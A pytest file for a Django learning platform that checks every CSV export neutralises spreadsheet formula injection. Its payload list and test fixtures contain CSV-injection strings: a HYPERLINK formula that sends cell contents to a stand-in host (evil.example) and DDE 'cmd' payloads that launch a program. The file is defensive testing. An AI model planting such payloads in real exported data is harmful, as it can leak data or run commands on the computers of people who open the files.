"""Every CSV download goes through one writer that neutralises spreadsheet formulas (CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from certification.services.blueprints import blueprints_ensure_builtin
from coding_lms.csv_export import safe_cell
from exercises.services import submission_score, submission_submit
from tests.exercises.factories import CaseFactory, make_key
from tests.factories import CohortFactory, StudentFactory

REPO_ROOT = Path(__file__).resolve().parent.parent.parent
PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("value", PAYLOADS)
def test_a_formula_cell_is_written_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Sam Student", "-1.5", "+2", "0.812", 12, -3.5, None])
def test_data_cells_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_case_grade_export_neutralises_titles_and_names(instructor, instructor_client):
    student = StudentFactory(username="mallory", display_name="=HYPERLINK(\"http://evil.example\",\"x\")")
    CohortFactory(instructors=[instructor], students=[student])
    case = CaseFactory(title="@SUM(1+1)*cmd|' /C calc'!A0", slug="formula-case", author=instructor)
    make_key(case, [{"role": "principal", "code": "I10"}])
    submission, _ = submission_submit(student=student, case=case, lines=[{"role": "principal", "code": "I10"}])
    submission_score(submission_id=submission.pk)
    rows = _rows(instructor_client.get("/cases/review/export.csv"))
    row = next(r for r in rows if r[0] == "mallory")
    assert row[1] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
    assert row[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_readiness_export_neutralises_names_and_leaves_empty_cells_empty(instructor, instructor_client):
    blueprints_ensure_builtin()
    student = StudentFactory(username="eve", display_name="-2+3+cmd|' /C calc'!A0")
    cohort = CohortFactory(instructors=[instructor], students=[student])
    rows = _rows(instructor_client.get(reverse("certification:cohort_export", args=[cohort.pk])))
    header, row = rows[0], rows[1]
    assert row[0] == "eve" and row[1] == "'-2+3+cmd|' /C calc'!A0"
    # No readiness yet: the score columns are empty, not a lone apostrophe.
    assert row[header.index("predicted_score")] == "" and row[header.index("pass_probability")] == ""
    assert "'" not in [cell for cell in row]


def test_no_download_builds_its_own_csv_writer():
    """csv.writer is used only by the shared writer (and by the code-set importer's COPY into the database)."""
    allowed = {"coding_lms/csv_export.py", "codesets/services/imports.py"}
    offenders = []
    for path in REPO_ROOT.glob("*/**/*.py"):
        relative = path.relative_to(REPO_ROOT).as_posix()
        if relative.startswith((".venv/", "tests/", "bench/", "var/")) or relative in allowed:
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text(errors="ignore")):
            offenders.append(relative)
    assert offenders == []
